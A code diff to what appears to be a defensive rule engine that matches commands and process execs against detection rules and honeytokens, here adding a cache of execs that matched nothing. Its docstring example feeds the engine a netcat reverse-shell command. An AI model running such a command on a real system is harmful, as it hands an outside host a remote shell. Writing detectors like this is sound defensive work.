@@ -1,4 +1,5 @@
-"""The rule engine: evidence in, verdicts out. Pure: no I/O, no clock, no state.
+"""The rule engine: evidence in, verdicts out. Pure: no I/O, no clock, no state (but a
+small memo of execs that matched nothing, since an exec loop repeats the same argv).
 
     engine = build_engine(profile.guard, honeytokens=tokens)
     for verdict in engine.evaluate(CommandText("nc -e /bin/sh 203.0.113.9 4444")):
@@ -13,6 +14,8 @@ by program name) and what went over the wire (the gateway's protocol sniffing).
 
 from __future__ import annotations
 
+import threading
+from collections import OrderedDict
 from collections.abc import Iterable, Mapping, Sequence
 from dataclasses import dataclass, field
 from typing import Any
@@ -27,6 +30,8 @@ from .normalize import variants, windows
 from .packs import PACKS, all_rules, load_pack
 from .rules import Rule, parse_rule
 
+_MEMO_SIZE = 512
+_MEMO_ARGV = 1024  # only short argv is remembered (bounded memory)
 HONEYTOKEN_TOUCH = "secrets.honeytoken"
 HONEYTOKEN_EXFIL = "secrets.honeytoken_exfil"
 HONEYTOKEN_RULE_IDS = (HONEYTOKEN_TOUCH, HONEYTOKEN_EXFIL)
@@ -95,12 +100,31 @@ class Engine:
         if dupes:
             raise ValueError(f"duplicate rule ids: {', '.join(dupes)}")
         self._by_id = {r.id: r for r in self.rules}
+        # Execs that matched no rule, by everything rules look at (not pid/ppid/uid).
+        self._quiet: OrderedDict[tuple[object, ...], None] = OrderedDict()
+        self._quiet_lock = threading.Lock()
 
     def rule(self, rule_id: str) -> Rule:
         return self._by_id[rule_id]
 
     def evaluate(self, evidence: Evidence) -> list[Verdict]:
         """Every rule that matches, strongest action first (rule order among equals)."""
+        key: tuple[object, ...] | None = None
+        if isinstance(evidence, ProcessExec) and sum(map(len, evidence.argv)) < _MEMO_ARGV:
+            key = (evidence.argv, evidence.exe, evidence.comm, evidence.argv_truncated)
+            with self._quiet_lock:
+                if key in self._quiet:
+                    self._quiet.move_to_end(key)
+                    return []
+        out = self._evaluate(evidence)
+        if key is not None and not out:
+            with self._quiet_lock:
+                self._quiet[key] = None
+                if len(self._quiet) > _MEMO_SIZE:
+                    self._quiet.popitem(last=False)
+        return out
+
+    def _evaluate(self, evidence: Evidence) -> list[Verdict]:
         texts: list[str] = []
         argv_texts: list[str] = []
         if isinstance(evidence, CommandText):
